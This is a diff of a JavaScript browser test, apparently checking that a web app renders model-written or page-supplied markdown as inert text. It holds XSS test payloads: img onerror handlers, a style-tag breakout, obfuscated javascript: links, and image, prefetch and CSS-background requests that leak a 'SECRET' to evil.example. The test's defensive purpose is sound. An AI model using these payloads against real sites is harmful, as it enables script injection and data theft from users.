@@ -17,7 +17,7 @@ const { project, live } = deployments(hatch);
 const json = async (method, path, body, headers) => (await api(method, path, body, headers)).json();
 
 const EVIL = `<img src=https://evil.example/p onerror="self.hacked=1"><svg></p><style><a id="</style><img src=1 onerror=self.hacked=1>">`;
-/** Case C11 and C12, as a model or a page might write it. */
+/** Hostile markup, as a model or a page might write it. */
 const MARKDOWN = `${EVIL}
 ![x](https://evil.example/p?leak=SECRET) ![y][ref] ![z](data:image/svg+xml;base64,PHN2Zy8+)
 <link rel=prefetch href=https://evil.example/q> <p style="background:url(https://evil.example/r)">s</p>
@@ -28,7 +28,7 @@ script:self.hacked=1) [c](&#106;avascript:self.hacked=1) [d](vbscript:x) [zip](h
 [ref]: https://evil.example/s
 `;
 
-/** What no page may have of it; the answer of a page on which everything is shown as text. */
+/** The traces that a page must not have. This is the result of a page that shows everything as text. */
 const judged = (page) => page.evaluate(() => ({
   hacked: self.hacked ?? null,
   elements: [...document.querySelectorAll("main :is(img, script, style, link, form[action], object, embed, video, audio, base, meta)")].filter((element) => !element.closest(".editor, .uplot") && !element.src?.startsWith("data:image/webp")).map(({ outerHTML }) => outerHTML.slice(0, 120)),
@@ -67,7 +67,7 @@ async function fill() {
 
 const { id, version, deployment, agentApp } = await fill();
 
-/** Each place, and what tells that what is hostile has come to be shown there. */
+/** Each place, and the sign that the hostile text is shown there. */
 const PLACES = {
   "a project's name": ["#/", "onerror"],
   "an answer, its files, notes and model": [`#/build/${id}`, "SECRET"],
